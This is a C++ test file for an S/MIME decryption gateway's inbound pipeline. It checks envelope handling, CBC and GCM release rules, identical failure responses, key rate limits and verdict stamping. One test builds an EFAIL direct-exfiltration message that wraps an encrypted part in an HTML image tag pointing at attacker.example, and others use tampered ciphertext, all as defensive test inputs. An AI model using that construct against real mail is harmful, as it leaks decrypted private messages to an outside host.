// Inbound decryption through the inbound pipeline and a fake MTA (issue 13):
// messages encrypted by the OpenSSL CLI to demo users' keys in the
// directory. Only the root envelope opens (DEC-01), with old keys too
// (DEC-04); CBC content is released only with a passing inner signature
// (DEC-02, EFAIL); every failure reads and answers alike (DEC-03); the
// plaintext goes only to local recipients who own a key (DEC-05); the stamp
// says what was decrypted and the inner verdict (DEC-06).
#include <catch2/catch.hpp>

#include "external_verifiers.hpp"
#include "milter/pipelines.hpp"
#include "test_support.hpp"

using namespace segel;
using milter::InboundOutcome;
using milter::Verdict;

#include "pipeline_fixture.hpp"

using test::FakeMta;
using test::ServiceFixture;

namespace {

const std::string k_mitra = "mitra@mitra.example";
const std::string k_alice_address = "alice@tangerangkota.go.id";
const std::string k_outer = "From: Mitra <mitra@mitra.example>\r\nTo: Alice <alice@tangerangkota.go.id>\r\n"
                            "Subject: Rahasia\r\nMessage-ID: <enc-1@mitra.example>\r\n";
const std::string k_unsigned_entity =
    test::crlf("Content-Type: text/plain; charset=utf-8\n\nIsi rahasia tanpa tanda tangan.\n");

void import(ServiceFixture& f, const std::string& user, const std::string& owner) {
    const auto& id = test::demo_identity(user);
    directory::ImportRequest request{id.certificate(), id.shared_private_key(), id.chain(),
                                     directory::CertificateKind::individual, {}};
    request.owner.email = owner;
    REQUIRE(f.store->import_certificate(request, {"test"}));
}

struct DecryptionFixture : ServiceFixture {
    DecryptionFixture() {
        import(*this, "alice-enc", k_alice_address);
        import(*this, "bambang-enc", "bambang@tangerangkota.go.id");
        settings->verify.enabled = true;
        settings->verify.anchors = test::pki_file("root.pem").string();
        settings->decryption.enabled = true;
    }
    milter::Pipelines pipelines() const {
        auto anchors = smime::TrustStore::load_pem_file(settings->verify.anchors);
        REQUIRE(anchors.has_value());
        return milter::Pipelines(settings, store, std::move(anchors).value());
    }
};

// The Content-* fields and body of a whole message: what a client encrypts.
std::string content_entity(const std::string& message) {
    const auto split = message.find("\r\n\r\n");
    std::string fields;
    bool keep = false;
    for (std::size_t pos = 0; pos < split + 2;) {
        const auto end = message.find("\r\n", pos) + 2;
        const std::string line = message.substr(pos, end - pos);
        if (line[0] != ' ' && line[0] != '\t')
            keep = line.rfind("Content-", 0) == 0;
        if (keep)
            fields += line;
        pos = end;
    }
    return fields + message.substr(split + 2);
}

// Mitra's message to alice, signed by mitra: the sign-then-encrypt content.
std::string mitra_signed_entity() {
    const std::string signed_message = test::sign_to_text(
        test::crlf("From: Mitra <mitra@mitra.example>\nTo: Alice <alice@tangerangkota.go.id>\nSubject: Rahasia\n"
                   "MIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8\n\nIsi rahasia yang ditandatangani.\n"),
        test::demo_identity("mitra"));
    return content_entity(signed_message);
}

milter::SessionFacts inbound_facts(std::vector<std::string> recipients = {k_alice_address},
                                   const std::string& sender = k_mitra) {
    milter::SessionFacts facts;
    facts.queue_id = "QD";
    facts.envelope_sender = sender;
    facts.recipients = std::move(recipients);
    return facts;
}

struct Delivered {
    milter::InboundResult result;
    FakeMta mta;
    std::shared_ptr<const smime::SpooledMessage> spooled;
    std::string ar() const { return value_of("Authentication-Results"); }
    std::string plain() const { return value_of("X-Segel-Verifikasi"); }
    std::string value_of(const std::string& name) const {
        for (const auto& e : mta.edits)
            if ((e.kind == "insert" || e.kind == "add") && e.name == name)
                return e.value;
        return {};
    }
    bool body_replaced() const { return !mta.body.empty(); }
    std::string message() const { return mta.rebuild(*spooled); }
};

Delivered deliver(const milter::Pipelines& pipelines, const std::string& text,
                  const milter::SessionFacts& facts = inbound_facts(),
                  milter::InboundStage stage = milter::InboundStage::border) {
    Delivered d;
    d.spooled = test::spool_shared(text);
    REQUIRE(d.spooled != nullptr);
    milter::ClaimedVerdictFields claimed(pipelines.settings().verify.authserv_id,
                                         pipelines.settings().verify.verdict_header);
    claimed.note_all(d.spooled->headers());
    d.result = pipelines.inbound().finish(facts, smime::MimeEntity(d.spooled), claimed, d.mta, stage);
    INFO(d.result.reason);
    return d;
}

std::string serial_of(const std::string& user) { return test::demo_identity(user).certificate().serial_hex(); }

bool audited(ServiceFixture& f, const std::string& action, const std::string& detail) {
    const auto entries = f.store->audit_entries();
    REQUIRE(entries.has_value());
    return std::any_of(entries->begin(), entries->end(), [&](const auto& e) {
        return e.action == action && e.detail.find(detail) != std::string::npos;
    });
}

} // namespace

TEST_CASE("decryption: sign-then-encrypt (CBC) opens for the local recipient, the inner signature passes, both are "
          "stamped (DEC-02, DEC-06)",
          "[milter][decryption]") {
    DecryptionFixture f;
    const std::string message = test::openssl_encrypted_message(k_outer, mitra_signed_entity(), {"alice-enc"});
    const auto d = deliver(f.pipelines(), message);
    CHECK(d.result.outcome == InboundOutcome::verified);
    CHECK(d.result.verdict == Verdict::accept);
    CHECK_THAT(d.result.reason, Catch::StartsWith("smime=pass") && Catch::Contains("decrypted with " + serial_of("alice-enc")));
    CHECK_THAT(d.ar(), Catch::Contains("smime=pass (decrypted by the gateway with the key of certificate serial " +
                                       serial_of("alice-enc") + "; signed by mitra@mitra.example)"));
    CHECK_THAT(d.plain(), Catch::StartsWith("Didekripsi oleh gateway (sertifikat enkripsi nomor seri " +
                                            serial_of("alice-enc") + "). Tanda tangan sah"));
    REQUIRE(d.body_replaced());
    bool body_started = false;
    for (const auto& e : d.mta.edits) { // PF-08: every header edit before the body
        if (e.kind == "body")
            body_started = true;
        else
            CHECK_FALSE(body_started);
    }
    const std::string delivered = d.message();
    CHECK_THAT(delivered, Catch::Contains("Content-Type: multipart/signed") && !Catch::Contains("pkcs7-mime"));
    CHECK_THAT(delivered, Catch::Contains("Subject: Rahasia") && Catch::Contains("Isi rahasia yang ditandatangani."));
    CHECK(test::verify_with_openssl(delivered, k_mitra).good);
    CHECK(audited(f, "decryption_key_access", serial_of("alice-enc")));
    CHECK(audited(f, "decrypt", "message_id=<enc-1@mitra.example>"));
    CHECK(audited(f, "decrypt", "released=yes"));
    CHECK(*f.store->decrypted_any({"<enc-1@mitra.example>"})); // replies to it stay encrypted (DEC-09)
}

TEST_CASE("decryption: AES-GCM, RSA-OAEP and ECDH open, and unsigned GCM content is released once its tag verified "
          "(DEC-02, RFC 5083)",
          "[milter][decryption]") {
    DecryptionFixture f;
    const auto pipelines = f.pipelines();
    const auto gcm = deliver(pipelines, test::openssl_encrypted_message(k_outer, k_unsigned_entity, {"alice-enc"},
                                                                        {"-aes-256-gcm"}));
    CHECK(gcm.result.outcome == InboundOutcome::verified);
    CHECK_THAT(gcm.ar(), Catch::Contains("smime=none (decrypted by the gateway"));
    CHECK_THAT(gcm.plain(), Catch::StartsWith("Didekripsi oleh gateway") && Catch::EndsWith("Tidak ditandatangani"));
    CHECK_THAT(gcm.message(), Catch::Contains("Isi rahasia tanpa tanda tangan."));

    const auto oaep = deliver(pipelines, test::openssl_encrypted_message(k_outer, mitra_signed_entity(), {"alice-enc"},
                                                                         {"-aes256", "-keyopt", "rsa_padding_mode:oaep"}));
    CHECK_THAT(oaep.ar(), Catch::Contains("smime=pass (decrypted"));

    const auto ecdh = deliver(pipelines,
                              test::openssl_encrypted_message(k_outer, mitra_signed_entity(), {"bambang-enc"}),
                              inbound_facts({"bambang@tangerangkota.go.id"}));
    CHECK_THAT(ecdh.ar(), Catch::Contains("smime=pass (decrypted by the gateway with the key of certificate serial " +
                                          serial_of("bambang-enc")));
}

TEST_CASE("decryption: every failure reads and answers alike: unsigned CBC, modified CBC blocks, no key, bad tag, "
          "malformed CMS (DEC-02, DEC-03, EFAIL)",
          "[milter][decryption]") {
    DecryptionFixture f;
    const std::string signed_cbc = test::openssl_encrypted_message(k_outer, mitra_signed_entity(), {"alice-enc"});
    const std::string gcm = test::openssl_encrypted_message(k_outer, k_unsigned_entity, {"alice-enc"}, {"-aes-256-gcm"});
    const std::size_t body = signed_cbc.find("\r\n\r\n") + 4;
    const std::vector<std::pair<std::string, std::string>> cases = {
        {"unsigned CBC", test::openssl_encrypted_message(k_outer, k_unsigned_entity, {"alice-enc"})},
        {"CBC blocks modified inside signed content", test::with_enveloped_byte_flipped(signed_cbc, 400)},
        {"CBC last block modified (padding)", test::with_enveloped_byte_flipped(signed_cbc, 20)},
        {"no key of the recipient", test::openssl_encrypted_message(k_outer, mitra_signed_entity(), {"mitra"})},
        {"GCM tag changed", test::with_enveloped_byte_flipped(gcm, 8)},
        {"malformed CMS", signed_cbc.substr(0, body) + "bm90IGEgQ01TIG9iamVjdA==\r\n"},
    };
    for (const auto action : {config::FailureAction::pass, config::FailureAction::reject}) {
        f.settings->decryption.on_failure = action;
        f.settings->decryption.max_failures_per_hour = 0;
        const auto pipelines = f.pipelines();
        std::optional<Delivered> first;
        for (const auto& [name, text] : cases) {
            INFO(name);
            const auto d = deliver(pipelines, text);
            CHECK(d.result.outcome == InboundOutcome::cannot_decrypt);
            CHECK_FALSE(d.body_replaced()); // delivered as it came, still encrypted
            CHECK(d.ar() == "tangerangkota.go.id; none");
            CHECK_THAT(d.plain(), Catch::StartsWith("Terenkripsi, tidak dibuka oleh gateway"));
            if (!first) {
                first = d;
                continue;
            }
            CHECK(d.result.verdict == first->result.verdict);
            CHECK(d.mta.reply == first->mta.reply);
            CHECK(d.plain() == first->plain());
        }
        CHECK(first->result.verdict == (action == config::FailureAction::pass ? Verdict::accept : Verdict::reject));
    }
    CHECK(audited(f, "decrypt", "released=no"));
}

TEST_CASE("decryption: decryption.unprotected = mark releases unsigned CBC content, stamped integrity not protected",
          "[milter][decryption]") {
    DecryptionFixture f;
    f.settings->decryption.unprotected = "mark";
    const auto d = deliver(f.pipelines(), test::openssl_encrypted_message(k_outer, k_unsigned_entity, {"alice-enc"}));
    CHECK(d.result.outcome == InboundOutcome::verified);
    CHECK_THAT(d.plain(), Catch::Contains("keutuhan isinya TIDAK terlindungi"));
    CHECK_THAT(d.ar(), Catch::Contains("integrity not protected"));
    CHECK_THAT(d.message(), Catch::Contains("Isi rahasia tanpa tanda tangan."));
}

TEST_CASE("decryption: an encrypted part inside multipart/mixed or a forwarded message is never opened (DEC-01, EFAIL "
          "direct exfiltration)",
          "[milter][decryption]") {
    DecryptionFixture f;
    const auto pipelines = f.pipelines();
    const std::string encrypted = test::openssl_encrypted_message(k_outer, mitra_signed_entity(), {"alice-enc"});
    const std::string part = encrypted.substr(encrypted.find("Content-", encrypted.find("MIME-Version")));
    const std::string mixed =
        k_outer + test::crlf("MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\"b1\"\n\n--b1\n"
                             "Content-Type: text/html\n\n<img src=\"http://attacker.example/\n--b1\n") +
        part + test::crlf("\n--b1\nContent-Type: text/html\n\n\">\n--b1--\n");
    const std::string forwarded =
        k_outer + test::crlf("MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\"b2\"\n\n--b2\n"
                             "Content-Type: text/plain\n\nSee below.\n--b2\nContent-Type: message/rfc822\n\n") +
        encrypted + test::crlf("\n--b2--\n");
    for (const auto& text : {mixed, forwarded}) {
        const auto d = deliver(pipelines, text);
        CHECK(d.result.outcome == InboundOutcome::verified);
        CHECK_FALSE(d.body_replaced());
        CHECK_THAT(d.plain(), Catch::StartsWith("Bagian terenkripsi di dalam surel tidak dibuka oleh gateway."));
        CHECK_THAT(d.result.reason, Catch::Contains("encrypted part not opened"));
    }
    CHECK_FALSE(audited(f, "decryption_key_access", serial_of("alice-enc")));
}

TEST_CASE("decryption: superseded and expired keys still open old mail (DEC-04)", "[milter][decryption]") {
    DecryptionFixture f;
    import(f, "alice-old", k_alice_address); // alice's previous certificate; "alice" supersedes it
    const auto pipelines = f.pipelines();
    const auto old = deliver(pipelines, test::openssl_encrypted_message(k_outer, mitra_signed_entity(), {"alice-old"}));
    CHECK_THAT(old.ar(), Catch::Contains("smime=pass (decrypted by the gateway with the key of certificate serial " +
                                         serial_of("alice-old")));
    // eko's certificate expired a year ago; its key is in the directory.
    const auto expired = deliver(pipelines,
                                 test::openssl_encrypted_message(k_outer, mitra_signed_entity(), {"eko"}),
                                 inbound_facts({"eko@tangerangkota.go.id"}));
    CHECK_THAT(expired.ar(), Catch::Contains("decrypted by the gateway with the key of certificate serial " +
                                             serial_of("eko")));
}

TEST_CASE("decryption: a key revoked for key compromise still opens, the stamp warns and an incident is recorded "
          "(DEC-04)",
          "[milter][decryption]") {
    DecryptionFixture f;
    REQUIRE(f.store->apply({"test", {}, {{test::demo_identity("alice-enc").certificate().sha256_fingerprint_hex(),
                                          directory::CertificateStatus::revoked,
                                          directory::RevocationReason::key_compromise, std::chrono::system_clock::now()}}},
                           {"test"}));
    const auto d = deliver(f.pipelines(), test::openssl_encrypted_message(k_outer, mitra_signed_entity(), {"alice-enc"}));
    CHECK(d.body_replaced());
    CHECK_THAT(d.plain(), Catch::Contains("PERINGATAN: sertifikat itu dicabut karena kuncinya bocor"));
    CHECK_THAT(d.ar(), Catch::Contains("revoked for key compromise"));
    CHECK(audited(f, "incident", "kind=compromised_key_decrypted; owner=" + k_alice_address));
}

TEST_CASE("decryption: the plaintext goes only to local recipients who own a key among the RecipientInfos (DEC-05)",
          "[milter][decryption]") {
    DecryptionFixture f;
    const auto pipelines = f.pipelines();
    const std::string to_alice = test::openssl_encrypted_message(k_outer, mitra_signed_entity(), {"alice-enc"});
    for (const auto& recipient : {std::string("warga@example.com"), std::string("bambang@tangerangkota.go.id")}) {
        const auto d = deliver(pipelines, to_alice, inbound_facts({recipient}));
        CHECK(d.result.outcome == InboundOutcome::cannot_decrypt);
        CHECK_FALSE(d.body_replaced());
    }
    // Several recipients and no decryption hop: delivered as it came.
    const auto several = deliver(pipelines, to_alice, inbound_facts({k_alice_address, "bambang@tangerangkota.go.id"}));
    CHECK(several.result.outcome == InboundOutcome::cannot_decrypt);
    CHECK_THAT(several.result.reason, Catch::Contains("no decryption hop"));
    CHECK_FALSE(several.body_replaced());
}

TEST_CASE("decryption: several recipients are marked for the decryption hop, which opens each recipient's copy after "
          "alias expansion (DEC-05)",
          "[milter][decryption][hop]") {
    DecryptionFixture f;
    f.settings->routing.decrypt_services = {"segel-decrypt"};
    const auto pipelines = f.pipelines();
    const std::string to_both =
        test::openssl_encrypted_message(k_outer, mitra_signed_entity(), {"alice-enc", "bambang-enc"});
    const auto border = deliver(pipelines, to_both, inbound_facts({k_alice_address, "bambang@tangerangkota.go.id"}));
    CHECK(border.result.outcome == InboundOutcome::decryption_hop);
    CHECK(border.result.verdict == Verdict::accept);
    CHECK(border.value_of("X-Segel-Decrypt") == "yes");
    CHECK_FALSE(border.body_replaced());
    CHECK(border.ar() == "tangerangkota.go.id; none");

    // At the hop, one recipient per transaction: the border's stamps and
    // marking arrive with the message and are replaced.
    std::string marked = to_both;
    marked.insert(0, "X-Segel-Decrypt: yes\r\n" + border.plain().insert(0, "X-Segel-Verifikasi: ") + "\r\n");
    for (const auto& recipient : {k_alice_address, std::string("bambang@tangerangkota.go.id")}) {
        const auto hop = deliver(pipelines, marked, inbound_facts({recipient}), milter::InboundStage::decryption_hop);
        CHECK(hop.result.outcome == InboundOutcome::verified);
        CHECK(hop.body_replaced());
        CHECK_THAT(hop.ar(), Catch::Contains("smime=pass (decrypted"));
        CHECK(std::count_if(hop.mta.edits.begin(), hop.mta.edits.end(), [](const test::Edit& e) {
                  return e.kind == "delete" && (e.name == "X-Segel-Decrypt" || e.name == "X-Segel-Verifikasi");
              }) == 2);
        CHECK(hop.value_of("X-Segel-Decrypt").empty());
    }
    // An address that an alias sent elsewhere gets the message as it came.
    const auto forwarded = deliver(pipelines, marked, inbound_facts({"alice@gmail.example"}),
                                   milter::InboundStage::decryption_hop);
    CHECK(forwarded.result.outcome == InboundOutcome::cannot_decrypt);
    CHECK_FALSE(forwarded.body_replaced());

    // single_recipient_direct = off sends even one recipient through the hop.
    f.settings->decryption.single_recipient_direct = false;
    const auto one = deliver(f.pipelines(), to_both, inbound_facts({k_alice_address}));
    CHECK(one.result.outcome == InboundOutcome::decryption_hop);
}

TEST_CASE("decryption: past max_failures_per_hour a sender's and a key's messages are not tried (DEC-03)",
          "[milter][decryption]") {
    DecryptionFixture f;
    f.settings->decryption.max_failures_per_hour = 2;
    const auto pipelines = f.pipelines();
    const std::string good = test::openssl_encrypted_message(k_outer, mitra_signed_entity(), {"alice-enc"});
    const std::string attacker = "From: x@attacker.example\r\nTo: alice@tangerangkota.go.id\r\nSubject: x\r\n";
    const std::string bad = test::with_enveloped_byte_flipped(test::openssl_encrypted_message(attacker, k_unsigned_entity, {"alice-enc"},
                                                                    {"-aes-256-gcm"}), 8);
    for (int i = 0; i < 2; ++i)
        CHECK(deliver(pipelines, bad, inbound_facts({k_alice_address}, "x@attacker.example")).result.outcome ==
              InboundOutcome::cannot_decrypt);
    // The key's count is spent: even a good message for it is not tried now.
    const auto refused = deliver(pipelines, good);
    CHECK(refused.result.outcome == InboundOutcome::cannot_decrypt);
    CHECK_THAT(refused.result.reason, Catch::Contains("not tried"));
    CHECK(refused.plain() == deliver(pipelines, bad).plain());
    // Another key, from a sender with no failures, is not affected.
    const auto other = deliver(pipelines, test::openssl_encrypted_message(k_outer, mitra_signed_entity(), {"bambang-enc"}),
                               inbound_facts({"bambang@tangerangkota.go.id"}));
    CHECK(other.result.outcome == InboundOutcome::verified);
}

TEST_CASE("decryption: forged verdict fields are removed and more RecipientInfos than allowed is permerror (AR-06, "
          "SM-16)",
          "[milter][decryption]") {
    DecryptionFixture f;
    f.settings->decryption.max_recipient_infos = 1;
    const std::string forged = "Authentication-Results: tangerangkota.go.id; smime=pass\r\n";
    const auto d = deliver(f.pipelines(),
                           forged + test::openssl_encrypted_message(k_outer, mitra_signed_entity(),
                                                                    {"alice-enc", "bambang-enc"}));
    CHECK(d.result.outcome == InboundOutcome::signature_unreadable);
    CHECK_THAT(d.ar(), Catch::Contains("smime=permerror"));
    CHECK(std::any_of(d.mta.edits.begin(), d.mta.edits.end(), [](const test::Edit& e) {
        return e.kind == "delete" && e.name == "Authentication-Results";
    }));
    CHECK_FALSE(d.body_replaced());
}

TEST_CASE("decryption: CBC content whose inner signature cannot be checked now is never released, and answered as "
          "verify.on_temperror says (REV-01, DEC-02)",
          "[milter][decryption]") {
    DecryptionFixture f;
    f.settings->verify.require_crl = true; // no CRL given: every signer's revocation status is unknown
    const std::string message = test::openssl_encrypted_message(k_outer, mitra_signed_entity(), {"alice-enc"});
    const auto delivered = deliver(f.pipelines(), message);
    CHECK(delivered.result.outcome == InboundOutcome::verification_temperror);
    CHECK(delivered.result.verdict == Verdict::accept); // on_temperror = pass: delivered as it came
    CHECK_FALSE(delivered.body_replaced());
    CHECK_THAT(delivered.plain(), Catch::StartsWith("Terenkripsi, tidak dibuka oleh gateway"));
    f.settings->verify.on_temperror = config::FailureAction::tempfail;
    const auto later = deliver(f.pipelines(), message);
    CHECK(later.result.verdict == Verdict::tempfail);
    CHECK_THAT(later.mta.reply, Catch::StartsWith("451 4.7.0"));
    CHECK_FALSE(later.body_replaced());
    // GCM needs no signature to be released: its tag verified.
    const auto gcm = deliver(f.pipelines(), test::openssl_encrypted_message(k_outer, mitra_signed_entity(), {"alice-enc"},
                                                                            {"-aes-256-gcm"}));
    CHECK(gcm.body_replaced());
}
